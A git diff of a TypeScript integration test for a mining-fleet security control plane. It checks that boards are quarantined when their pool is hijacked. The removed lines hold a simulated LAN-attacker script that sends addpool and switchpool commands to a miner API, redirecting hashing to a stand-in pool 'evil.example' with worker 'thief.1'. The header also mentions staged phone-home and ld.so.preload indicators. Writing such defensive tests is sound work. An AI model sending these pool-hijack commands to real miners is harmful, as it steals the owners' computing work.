@@ -4,88 +4,24 @@
  * protocol. The attacker is another process on the "LAN" using addpool/switchpool; the plane quarantines by
  * policy. A second board stages a phone-home connection and /etc/ld.so.preload, and a malformed miner answer.
  */
-import { execFile, spawn } from "node:child_process";
-import { promisify } from "node:util";
-import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
+import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { sha256Hex } from "../../shared/crypto/index.js";
-import { createSimulatedBoard } from "../../agent/src/platform/index.js";
-import { CLEAN_SOCKETS, SimMiner, writeSimulatedSockets } from "../../agent/src/sim-miner/index.js";
+import { CLEAN_SOCKETS, writeSimulatedSockets } from "../../agent/src/sim-miner/index.js";
 import { ApiClient } from "../support/api.js";
-import { loadDeviceKey } from "../support/device-key.js";
-import { AGENT_BINARY, startAgent, startControlPlane, tempDir, simulatedAgentConfig, writeAgentConfig, type ControlPlane, type ManagedProcess } from "../support/processes.js";
+import { GuardedFleet, hijackFromAnotherProcess, type GuardedBoard } from "../support/guarded-board.js";
+import { startControlPlane, type ControlPlane } from "../support/processes.js";
 import { waitFor } from "../support/wait.js";
 
-const MODEL = "S19";
-const FIRMWARE = "2024.06.1";
 const GOOD_POOL = "stratum+tcp://pool.example.net:3333";
 
 let plane: ControlPlane;
 let admin: ApiClient;
-const agents: ManagedProcess[] = [];
-const miners: SimMiner[] = [];
+let fleet: GuardedFleet;
 
-interface Board {
-  root: string;
-  stateDir: string;
-  miner: SimMiner;
-  proc: ManagedProcess;
-  id: string;
-}
-
-async function startBoard(name: string, extra: Record<string, unknown> = {}): Promise<Board> {
-  const dir = tempDir(name);
-  const root = join(dir, "board");
-  createSimulatedBoard(root, { model: MODEL, firmwareVersion: FIRMWARE });
-  const miner = new SimMiner({ root });
-  miners.push(miner);
-  const port = await miner.start();
-  const stateDir = join(dir, "state");
-  const token = await admin.post("/api/v1/enrollment-tokens", { ttlMs: 600_000, maxUses: 1, label: name });
-  const configFile = writeAgentConfig(
-    dir,
-    simulatedAgentConfig(plane, { stateDir, boardRoot: root, model: MODEL, firmwareVersion: FIRMWARE }, {
-      enrollmentToken: token.token,
-      measure: { paths: ["/firmware"] },
-      guards: { intervalMs: 1000, minerApi: { host: "127.0.0.1", port } },
-      ...extra,
-    }),
-  );
-  if (!referenceRegistered) {
-    // Async: a blocked event loop would miss the plane closing an idle keep-alive socket and reuse it.
-    const measured = JSON.parse((await promisify(execFile)(AGENT_BINARY, ["measure", "--config", configFile], { encoding: "utf8" })).stdout);
-    await admin.post("/api/v1/reference-values", { model: MODEL, firmwareVersion: FIRMWARE, measurements: measured });
-    referenceRegistered = true;
-  }
-  const proc = startAgent(name, configFile);
-  agents.push(proc);
-  const id = await waitFor(`${name}'s key`, () => loadDeviceKey(stateDir)?.deviceId);
-  await waitFor(`${name} trusted`, async () => (await admin.get(`/api/v1/devices/${id}`).catch(() => undefined))?.appraisal === "trusted");
-  await waitFor(`${name} applied the signed policy`, () => existsSync(join(stateDir, "policy.json")));
-  return { root, stateDir, miner, proc, id };
-}
-let referenceRegistered = false;
-
-/** addpool + switchpool from another process over the real protocol (an attacker on the LAN). */
-function hijackFromAnotherProcess(port: number): Promise<void> {
-  const script = `
-    const net = require("node:net");
-    const send = (req) => new Promise((resolve, reject) => {
-      const s = net.connect(${port}, "127.0.0.1", () => s.end(JSON.stringify(req)));
-      s.on("data", () => {}); s.on("close", resolve); s.on("error", reject);
-    });
-    (async () => {
-      await send({ command: "addpool", parameter: "stratum+tcp://evil.example:3333,thief.1,x" });
-      await send({ command: "switchpool", parameter: "1" });
-    })();
-  `;
-  return new Promise((resolve, reject) => {
-    const child = spawn(process.execPath, ["-e", script], { stdio: "ignore" });
-    child.on("error", reject);
-    child.on("exit", (code) => (code === 0 ? resolve() : reject(new Error(`attacker exited ${code}`))));
-  });
-}
+/** A guarded board; `extra` is merged into the agent's configuration. */
+const startBoard = (name: string, extra: Record<string, unknown> = {}): Promise<GuardedBoard> => fleet.start(name, { agentConfig: extra });
 
 const events = async (id: string) => (await admin.get(`/api/v1/devices/${id}/events`)).events as any[];
 const guardAlerts = async (id: string) => (await events(id)).filter((e) => e.kind === "guard-alert");
@@ -93,6 +29,7 @@ const guardAlerts = async (id: string) => (await events(id)).filter((e) => e.kin
 beforeAll(async () => {
   plane = await startControlPlane();
   admin = new ApiClient(plane.httpUrl, plane.adminToken);
+  fleet = new GuardedFleet(plane, admin);
   await admin.ok("PUT", "/api/v1/policies/pools", { allowedUrls: [GOOD_POOL], workerPatterns: ["^farm\\.worker\\d+$"] });
   await admin.ok("PUT", "/api/v1/policies/indicators", {
     indicators: [
@@ -104,8 +41,7 @@ beforeAll(async () => {
 }, 120_000);
 
 afterAll(async () => {
-  await Promise.all(agents.map((a) => a.kill("SIGKILL")));
-  await Promise.all(miners.map((m) => m.close()));
+  await fleet?.close();
   await plane?.proc.kill("SIGKILL");
 });
 
